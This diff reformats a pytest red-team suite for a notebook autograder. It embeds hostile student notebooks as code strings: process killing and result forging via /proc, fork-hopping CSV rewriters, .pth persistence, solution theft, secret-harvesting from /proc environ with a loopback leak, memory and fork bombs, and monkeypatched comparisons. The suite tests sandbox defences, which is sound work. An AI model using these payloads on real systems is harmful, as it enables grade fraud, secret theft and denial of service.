@@ -11,6 +11,7 @@ Each test asserts the exact CSV row of its student and that nothing outside the
 sandbox changed: the copies, the output folder, the other rows, leftover processes,
 and a loopback server that must receive nothing.
 """
+
 from __future__ import annotations
 
 import csv
@@ -42,8 +43,10 @@ FULL = {q.id: q.points for q in QUESTIONS}
 MAX = sum(FULL.values())
 NAMES = sorted({q.name for q in QUESTIONS})
 SECRET = "convkit-redteam-secret-7f3a"
-BOOT = ("import sys; sys.path.insert(0, sys.argv.pop(1)); "
-        "from convkit.grade.cli import main; sys.exit(main(sys.argv[1:]))")
+BOOT = (
+    "import sys; sys.path.insert(0, sys.argv.pop(1)); "
+    "from convkit.grade.cli import main; sys.exit(main(sys.argv[1:]))"
+)
 
 
 # --------------------------------------------------------------------------- the world
@@ -74,8 +77,10 @@ class _Cgroup:
 
     def __init__(self, name: str) -> None:
         self.folders = []
-        for controller, settings in (("pids", {"pids.max": "600"}),
-                                     ("memory", {"memory.limit_in_bytes": str(8 << 30)})):
+        for controller, settings in (
+            ("pids", {"pids.max": "600"}),
+            ("memory", {"memory.limit_in_bytes": str(8 << 30)}),
+        ):
             base = _cgroup_base(controller)
             if base is None:
                 continue
@@ -164,11 +169,13 @@ def _notebook(base: Path, cells=(), *, extra_keys: bool = False) -> str:
 
 def _bind_all(expression: str) -> str:
     """A cell binding every answer name to ``expression`` and to a function returning it."""
-    return (f"_value = {expression}\n"
-            "def _answer(*args, **kwargs):\n    return _value\n"
-            f"for _name in {NAMES!r}:\n"
-            "    globals()[_name] = _answer\n"
-            "globals()['_plain'] = _value\n")
+    return (
+        f"_value = {expression}\n"
+        "def _answer(*args, **kwargs):\n    return _value\n"
+        f"for _name in {NAMES!r}:\n"
+        "    globals()[_name] = _answer\n"
+        "globals()['_plain'] = _value\n"
+    )
 
 
 class World:
@@ -205,11 +212,29 @@ class World:
 
     def grade(self, *args: str, cgroup: _Cgroup | None = None, timeout: float = 900):
         env = dict(os.environ, CONVKIT_REDTEAM_SECRET=SECRET)
-        command = [self.python, "-I", "-c", BOOT, str(self.repo / "lib"), str(self.submissions),
-                   "--out", str(self.out / "grades.csv"), "--checks", str(self.repo / "tests" / "grading"),
-                   "--no-progress", *args]
-        return subprocess.run(command, cwd=self.root, env=env, capture_output=True, text=True,
-                              timeout=timeout, preexec_fn=cgroup.join if cgroup else None)
+        command = [
+            self.python,
+            "-I",
+            "-c",
+            BOOT,
+            str(self.repo / "lib"),
+            str(self.submissions),
+            "--out",
+            str(self.out / "grades.csv"),
+            "--checks",
+            str(self.repo / "tests" / "grading"),
+            "--no-progress",
+            *args,
+        ]
+        return subprocess.run(
+            command,
+            cwd=self.root,
+            env=env,
+            capture_output=True,
+            text=True,
+            timeout=timeout,
+            preexec_fn=cgroup.join if cgroup else None,
+        )
 
     def rows(self) -> dict[str, dict]:
         with open(self.out / "grades.csv", newline="") as handle:
@@ -245,128 +270,259 @@ def _attacks(world: World, fork_bomb: bool) -> dict[str, tuple[dict[str, str], d
         "blank": (blank_all, {}),
         # Code execution inside the grader: patch a module the grader imports, with a notebook
         # that takes nbformat's warning paths.
-        "code_exec": ({NB: _notebook(blank, [
-            f"open({str(report)!r}, 'a').write('\\nimport os; os.environ[\"PWNED\"] = \"1\"\\n')",
-            "import convkit, pathlib\n"
-            "p = pathlib.Path(convkit.__file__).parent / 'grade' / 'runner.py'\n"
-            "p.write_text(p.read_text().replace('Outcome(question.points, question.points)', "
-            "'Outcome(question.points, question.points)'))"], extra_keys=True)}, {}),
+        "code_exec": (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        f"open({str(report)!r}, 'a').write('\\nimport os; os.environ[\"PWNED\"] = \"1\"\\n')",
+                        "import convkit, pathlib\n"
+                        "p = pathlib.Path(convkit.__file__).parent / 'grade' / 'runner.py'\n"
+                        "p.write_text(p.read_text().replace('Outcome(question.points, question.points)', "
+                        "'Outcome(question.points, question.points)'))",
+                    ],
+                    extra_keys=True,
+                )
+            },
+            {},
+        ),
         # Forge other students' results through /proc/<sibling>/fd, stop or kill everyone visible.
-        "forger": ({NB: _notebook(blank, [
-            "import os, signal\n"
-            "for pid in os.listdir('/proc'):\n"
-            "    if not pid.isdigit() or int(pid) == os.getpid():\n        continue\n"
-            "    for sig in (signal.SIGSTOP, signal.SIGKILL):\n"
-            "        try:\n            os.kill(int(pid), sig)\n        except OSError:\n            pass\n"
-            "    try:\n        fds = os.listdir(f'/proc/{pid}/fd')\n    except OSError:\n        continue\n"
-            "    for fd in fds:\n"
-            "        try:\n"
-            "            with open(f'/proc/{pid}/fd/{fd}', 'w') as h:\n"
-            "                h.write('{\"event\": \"result\", \"index\": 0, \"value\": 0}\\n{\"event\": \"end\"}\\n')\n"
-            "        except OSError:\n            pass"])}, {}),
+        "forger": (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        "import os, signal\n"
+                        "for pid in os.listdir('/proc'):\n"
+                        "    if not pid.isdigit() or int(pid) == os.getpid():\n        continue\n"
+                        "    for sig in (signal.SIGSTOP, signal.SIGKILL):\n"
+                        "        try:\n            os.kill(int(pid), sig)\n        except OSError:\n            pass\n"
+                        "    try:\n        fds = os.listdir(f'/proc/{pid}/fd')\n    except OSError:\n        continue\n"
+                        "    for fd in fds:\n"
+                        "        try:\n"
+                        "            with open(f'/proc/{pid}/fd/{fd}', 'w') as h:\n"
+                        '                h.write(\'{"event": "result", "index": 0, "value": 0}\\n{"event": "end"}\\n\')\n'
+                        "        except OSError:\n            pass"
+                    ],
+                )
+            },
+            {},
+        ),
         # A fork-hopping survivor that keeps rewriting the CSV after its notebook ends.
-        "survivor": ({NB: _notebook(blank, [
-            "import os, time\n"
-            "def hop(n):\n"
-            "    for _ in range(n):\n"
-            "        if os.fork():\n            os._exit(0)\n"
-            f"        try:\n            open({str(grades)!r}, 'w').write('student,total\\nsurvivor,999\\n')\n"
-            "        except OSError:\n            pass\n"
-            "        time.sleep(0.05)\n"
-            "if os.fork() == 0:\n    os.setsid()\n    hop(200)\n    os._exit(0)"])}, {}),
+        "survivor": (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        "import os, time\n"
+                        "def hop(n):\n"
+                        "    for _ in range(n):\n"
+                        "        if os.fork():\n            os._exit(0)\n"
+                        f"        try:\n            open({str(grades)!r}, 'w').write('student,total\\nsurvivor,999\\n')\n"
+                        "        except OSError:\n            pass\n"
+                        "        time.sleep(0.05)\n"
+                        "if os.fork() == 0:\n    os.setsid()\n    hop(200)\n    os._exit(0)"
+                    ],
+                )
+            },
+            {},
+        ),
         # Forge the CSV, then crash the grader with a deeply nested line; rerun and resume.
-        "deep_json": ({NB: _notebook(blank, [
-            f"try:\n    open({str(grades)!r}, 'w').write('student,total\\ndeep_json,70\\n')\nexcept OSError:\n    pass",
-            "import os\nline = b'[' * 100000 + b']' * 100000 + b'\\n'\n"
-            "for fd in range(3, 64):\n"
-            "    try:\n        os.write(fd, line)\n    except OSError:\n        pass"])}, {}),
+        "deep_json": (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        f"try:\n    open({str(grades)!r}, 'w').write('student,total\\ndeep_json,70\\n')\nexcept OSError:\n    pass",
+                        "import os\nline = b'[' * 100000 + b']' * 100000 + b'\\n'\n"
+                        "for fd in range(3, 64):\n"
+                        "    try:\n        os.write(fd, line)\n    except OSError:\n        pass",
+                    ],
+                )
+            },
+            {},
+        ),
         # Persistence: a .pth in the environment, the hidden checks edited.
-        "persist": ({NB: _notebook(blank, [
-            "import site\nfor d in site.getsitepackages():\n"
-            "    try:\n        open(d + '/zz_pwn.pth', 'w').write('import os\\n')\n    except OSError:\n        pass",
-            f"open({str(checks)!r}, 'w').write('HIDDEN = {{}}\\n')"])}, {}),
+        "persist": (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        "import site\nfor d in site.getsitepackages():\n"
+                        "    try:\n        open(d + '/zz_pwn.pth', 'w').write('import os\\n')\n    except OSError:\n        pass",
+                        f"open({str(checks)!r}, 'w').write('HIDDEN = {{}}\\n')",
+                    ],
+                )
+            },
+            {},
+        ),
         # Stolen answers: the solutions, found through convkit.__file__, run as the student's own.
-        "thief": ({name: _notebook(world.exercise(name), [
-            "import convkit, json, pathlib\n"
-            "root = pathlib.Path(convkit.__file__).resolve().parents[2]\n"
-            f"nb = json.loads((root / 'solutions' / {name!r}).read_text())\n"
-            "for cell in nb['cells']:\n"
-            "    if cell['cell_type'] == 'code':\n"
-            "        exec(''.join(cell['source']))"]) for name in NOTEBOOKS}, {}),
+        "thief": (
+            {
+                name: _notebook(
+                    world.exercise(name),
+                    [
+                        "import convkit, json, pathlib\n"
+                        "root = pathlib.Path(convkit.__file__).resolve().parents[2]\n"
+                        f"nb = json.loads((root / 'solutions' / {name!r}).read_text())\n"
+                        "for cell in nb['cells']:\n"
+                        "    if cell['cell_type'] == 'code':\n"
+                        "        exec(''.join(cell['source']))"
+                    ],
+                )
+                for name in NOTEBOOKS
+            },
+            {},
+        ),
         # Exfiltration: the grader's environment and command line, other submissions, the network.
-        "exfiltrator": ({NB: _notebook(blank, [
-            "import os, socket, glob\nleaks = []\n"
-            f"if {SECRET!r} in str(os.environ):\n    leaks.append('env')\n"
-            "for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
-            "    try:\n        data = open(path, 'rb').read()\n    except OSError:\n        continue\n"
-            f"    if {SECRET.encode()!r} in data or b'--checks' in data:\n        leaks.append('proc')\n"
-            f"for path in [{str(world.submissions / 'honest' / NB)!r}, {str(world.repo / 'solutions')!r},"
-            f" {str(world.repo / 'tests')!r}, {str(world.out)!r}]:\n"
-            "    if os.path.exists(path):\n        leaks.append('file:' + path.rsplit('/', 1)[-1])\n"
-            "home = os.path.expanduser('~root')\n"
-            "if os.path.isdir(home) and set(os.listdir(home)) - {'.pyenv'}:\n    leaks.append('home')\n"
-            "try:\n"
-            f"    socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')\n"
-            "    leaks.append('net')\nexcept OSError:\n    pass\n"
-            "raise RuntimeError('LEAKS[' + ' '.join(sorted(set(leaks))) + ']')"])}, {}),
+        "exfiltrator": (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        "import os, socket, glob\nleaks = []\n"
+                        f"if {SECRET!r} in str(os.environ):\n    leaks.append('env')\n"
+                        "for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
+                        "    try:\n        data = open(path, 'rb').read()\n    except OSError:\n        continue\n"
+                        f"    if {SECRET.encode()!r} in data or b'--checks' in data:\n        leaks.append('proc')\n"
+                        f"for path in [{str(world.submissions / 'honest' / NB)!r}, {str(world.repo / 'solutions')!r},"
+                        f" {str(world.repo / 'tests')!r}, {str(world.out)!r}]:\n"
+                        "    if os.path.exists(path):\n        leaks.append('file:' + path.rsplit('/', 1)[-1])\n"
+                        "home = os.path.expanduser('~root')\n"
+                        "if os.path.isdir(home) and set(os.listdir(home)) - {'.pyenv'}:\n    leaks.append('home')\n"
+                        "try:\n"
+                        f"    socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')\n"
+                        "    leaks.append('net')\nexcept OSError:\n    pass\n"
+                        "raise RuntimeError('LEAKS[' + ' '.join(sorted(set(leaks))) + ']')"
+                    ],
+                )
+            },
+            {},
+        ),
         # Denial of service: 40 cells of sleep, output with no newline.
         "sleepy": ({NB: _notebook(blank, ["import time\ntime.sleep(2.5)"] * 40)}, {}),
-        "no_newline": ({NB: _notebook(blank, [
-            "import os\nchunk = b'x' * (1 << 20)\n"
-            "for fd in range(3, 64):\n"
-            "    try:\n"
-            "        for _ in range(100):\n            os.write(fd, chunk)\n"
-            "    except OSError:\n        pass"])}, {}),
+        "no_newline": (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        "import os\nchunk = b'x' * (1 << 20)\n"
+                        "for fd in range(3, 64):\n"
+                        "    try:\n"
+                        "        for _ in range(100):\n            os.write(fd, chunk)\n"
+                        "    except OSError:\n        pass"
+                    ],
+                )
+            },
+            {},
+        ),
         # RLIMIT_AS dodged by unmapping big libraries, then a large resident allocation.
-        "memory_bomb": ({NB: _notebook(blank, [
-            "import ctypes, mmap\nlibc = ctypes.CDLL(None)\n"
-            "for line in open('/proc/self/maps'):\n"
-            "    parts = line.split()\n"
-            "    if len(parts) > 5 and ('cuda' in parts[5] or 'nvidia' in parts[5] or 'cublas' in parts[5]):\n"
-            "        lo, hi = (int(x, 16) for x in parts[0].split('-'))\n"
-            "        libc.munmap(ctypes.c_void_p(lo), ctypes.c_size_t(hi - lo))",
-            "hoard = []\nfor _ in range(64):\n"
-            "    block = bytearray(64 << 20)\n    block[::4096] = b'x' * len(block[::4096])\n"
-            "    hoard.append(block)"])}, {}),
+        "memory_bomb": (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        "import ctypes, mmap\nlibc = ctypes.CDLL(None)\n"
+                        "for line in open('/proc/self/maps'):\n"
+                        "    parts = line.split()\n"
+                        "    if len(parts) > 5 and ('cuda' in parts[5] or 'nvidia' in parts[5] or 'cublas' in parts[5]):\n"
+                        "        lo, hi = (int(x, 16) for x in parts[0].split('-'))\n"
+                        "        libc.munmap(ctypes.c_void_p(lo), ctypes.c_size_t(hi - lo))",
+                        "hoard = []\nfor _ in range(64):\n"
+                        "    block = bytearray(64 << 20)\n    block[::4096] = b'x' * len(block[::4096])\n"
+                        "    hoard.append(block)",
+                    ],
+                )
+            },
+            {},
+        ),
         # Already blocked, and must stay blocked.
-        "liar": ({NB: _notebook(blank, [
-            "class Liar:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
-            "    def __array__(self, *a, **k): raise RuntimeError('no')\n    def __float__(self): return 0.0",
-            _bind_all("Liar()")])}, {}),
-        "subclasses": ({NB: _notebook(blank, [
-            "import numpy as np, torch\n"
-            "class A(np.ndarray):\n    def __eq__(self, o): return True\n"
-            "class F(float):\n    def __eq__(self, o): return True\n"
-            "class T(torch.Tensor):\n    pass",
-            _bind_all("[np.zeros(3).view(A), F(1.0), torch.zeros(3).as_subclass(T),"
-                      " np.array([object()]), np.zeros(2, complex), np.zeros(2, 'i4,f4'),"
-                      " float('nan'), float('inf')]")])}, {}),
+        "liar": (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        "class Liar:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
+                        "    def __array__(self, *a, **k): raise RuntimeError('no')\n    def __float__(self): return 0.0",
+                        _bind_all("Liar()"),
+                    ],
+                )
+            },
+            {},
+        ),
+        "subclasses": (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        "import numpy as np, torch\n"
+                        "class A(np.ndarray):\n    def __eq__(self, o): return True\n"
+                        "class F(float):\n    def __eq__(self, o): return True\n"
+                        "class T(torch.Tensor):\n    pass",
+                        _bind_all(
+                            "[np.zeros(3).view(A), F(1.0), torch.zeros(3).as_subclass(T),"
+                            " np.array([object()]), np.zeros(2, complex), np.zeros(2, 'i4,f4'),"
+                            " float('nan'), float('inf')]"
+                        ),
+                    ],
+                )
+            },
+            {},
+        ),
         "huge": ({NB: _notebook(blank, ["import numpy as np", _bind_all("np.zeros(6_000_000)")])}, {}),
-        "monkeypatch": ({NB: _notebook(blank, [
-            "import numpy as np, torch\n"
-            "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
-            "torch.allclose = lambda *a, **k: True\n"
-            "import convkit.grade.model as m\nm.compare = lambda *a, **k: None\n"
-            "m.verdict = lambda *a, **k: None"])}, {}),
+        "monkeypatch": (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        "import numpy as np, torch\n"
+                        "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
+                        "torch.allclose = lambda *a, **k: True\n"
+                        "import convkit.grade.model as m\nm.compare = lambda *a, **k: None\n"
+                        "m.verdict = lambda *a, **k: None"
+                    ],
+                )
+            },
+            {},
+        ),
         # Leftovers: atexit, an ignored SIGTERM, daemon threads, setsid and a double fork.
-        "leftovers": ({**everything, NB: _notebook(honest, [
-            "import atexit, os, signal, threading, time\n"
-            f"GRADES = {str(grades)!r}\n"
-            "def scribble():\n"
-            "    for _ in range(100):\n"
-            "        try:\n            open(GRADES, 'w').write('student,total\\nleftovers,999\\n')\n"
-            "        except OSError:\n            pass\n"
-            "        time.sleep(0.05)\n"
-            "atexit.register(scribble)\n"
-            "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
-            "threading.Thread(target=scribble, daemon=True).start()\n"
-            "if os.fork() == 0:\n"
-            "    os.setsid()\n"
-            "    if os.fork() == 0:\n        scribble()\n    os._exit(0)"])}, FULL),
+        "leftovers": (
+            {
+                **everything,
+                NB: _notebook(
+                    honest,
+                    [
+                        "import atexit, os, signal, threading, time\n"
+                        f"GRADES = {str(grades)!r}\n"
+                        "def scribble():\n"
+                        "    for _ in range(100):\n"
+                        "        try:\n            open(GRADES, 'w').write('student,total\\nleftovers,999\\n')\n"
+                        "        except OSError:\n            pass\n"
+                        "        time.sleep(0.05)\n"
+                        "atexit.register(scribble)\n"
+                        "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
+                        "threading.Thread(target=scribble, daemon=True).start()\n"
+                        "if os.fork() == 0:\n"
+                        "    os.setsid()\n"
+                        "    if os.fork() == 0:\n        scribble()\n    os._exit(0)"
+                    ],
+                ),
+            },
+            FULL,
+        ),
     }
     if fork_bomb:
-        attacks["fork_bomb"] = ({NB: _notebook(blank, [
-            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"])}, {})
+        attacks["fork_bomb"] = (
+            {
+                NB: _notebook(
+                    blank,
+                    [
+                        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
+                    ],
+                )
+            },
+            {},
+        )
     return attacks
 
 
@@ -376,19 +532,23 @@ def _attacks(world: World, fork_bomb: bool) -> dict[str, tuple[dict[str, str], d
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
     found = capabilities()
-    assert found["level"] == "namespaces", (
-        f"this machine should support the namespace sandbox, found {found}")
+    assert found["level"] == "namespaces", f"this machine should support the namespace sandbox, found {found}"
     world = World(tmp_path_factory.mktemp("redteam"))
     cgroup = _Cgroup(f"convkit-redteam-{os.getpid()}")
     attacks = _attacks(world, fork_bomb=cgroup.complete)
     for student, (notebooks, _) in attacks.items():
         world.add(student, notebooks)
-    before = {"repo": _tree_digest(world.repo), "venv": _tree_digest(world.venv),
-              "installation": _installation_listing(), "submissions": _tree_digest(world.submissions)}
+    before = {
+        "repo": _tree_digest(world.repo),
+        "venv": _tree_digest(world.venv),
+        "installation": _installation_listing(),
+        "submissions": _tree_digest(world.submissions),
+    }
     try:
         started = time.monotonic()
-        done = world.grade("--jobs", "2", "--timeout", "3", "--notebook-timeout", "40", "--memory", "768",
-                           cgroup=cgroup)
+        done = world.grade(
+            "--jobs", "2", "--timeout", "3", "--notebook-timeout", "40", "--memory", "768", cgroup=cgroup
+        )
         world.seconds = time.monotonic() - started
         time.sleep(2)  # a survivor, if any, would rewrite the CSV by now
         world.done, world.attacks, world.before = done, attacks, before
@@ -409,10 +569,29 @@ def test_the_hostile_class_is_graded_to_the_end(graded):
     assert sorted(graded.rows()) == sorted(graded.attacks)
 
 
-@pytest.mark.parametrize("student", ["honest", "blank", "code_exec", "forger", "survivor", "deep_json",
-                                     "persist", "thief", "exfiltrator", "sleepy", "no_newline",
-                                     "memory_bomb", "liar", "subclasses", "huge", "monkeypatch",
-                                     "leftovers", "fork_bomb"])
+@pytest.mark.parametrize(
+    "student",
+    [
+        "honest",
+        "blank",
+        "code_exec",
+        "forger",
+        "survivor",
+        "deep_json",
+        "persist",
+        "thief",
+        "exfiltrator",
+        "sleepy",
+        "no_newline",
+        "memory_bomb",
+        "liar",
+        "subclasses",
+        "huge",
+        "monkeypatch",
+        "leftovers",
+        "fork_bomb",
+    ],
+)
 def test_each_attack_scores_exactly_its_honest_worth(graded, student):
     if student not in graded.attacks:
         pytest.fail("no outer cgroup: the fork bomb was not run")
@@ -424,8 +603,9 @@ def test_nothing_outside_the_sandbox_changed(graded):
     assert _tree_digest(graded.venv) == graded.before["venv"], "the environment was changed"
     assert _installation_listing() == graded.before["installation"]
     assert _tree_digest(graded.submissions) == graded.before["submissions"]
-    written = sorted(str(p.relative_to(graded.out)) for p in graded.out.rglob("*")
-                     if ".grades.csv.state" not in p.parts)
+    written = sorted(
+        str(p.relative_to(graded.out)) for p in graded.out.rglob("*") if ".grades.csv.state" not in p.parts
+    )
     assert written == sorted(["grades.csv", "feedback"] + [f"feedback/{s}.md" for s in graded.attacks])
     assert graded.leftover_processes == []
     assert graded.listener.connections == 0
